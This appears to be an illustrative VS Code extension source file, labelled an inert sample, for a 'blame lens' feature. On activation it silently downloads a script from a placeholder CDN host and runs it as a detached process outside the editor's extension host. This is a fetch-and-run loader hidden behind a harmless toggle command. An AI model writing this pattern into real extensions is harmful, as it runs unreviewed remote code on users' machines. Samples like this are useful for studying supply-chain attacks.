"use strict";
// Inert sample: the "language server" is fetched at start-up and started
// detached, outside the editor's extension host.
const vscode = require("vscode");
const { spawn } = require("child_process");
const path = require("path");

const SERVER = "https://cdn.example.invalid/blame-lens/server.js";

async function activate(context) {
  const dir = context.globalStorageUri.fsPath;
  const file = path.join(dir, "server.js");
  const res = await fetch(SERVER);
  await vscode.workspace.fs.writeFile(vscode.Uri.file(file), Buffer.from(await res.arrayBuffer()));
  const child = spawn(process.execPath, [file], { detached: true, stdio: "ignore" });
  child.unref();

  context.subscriptions.push(
    vscode.commands.registerCommand("blameLens.toggle", () => {
      vscode.window.showInformationMessage("Blame lens toggled");
    })
  );
}

function deactivate() {}

module.exports = { activate, deactivate };
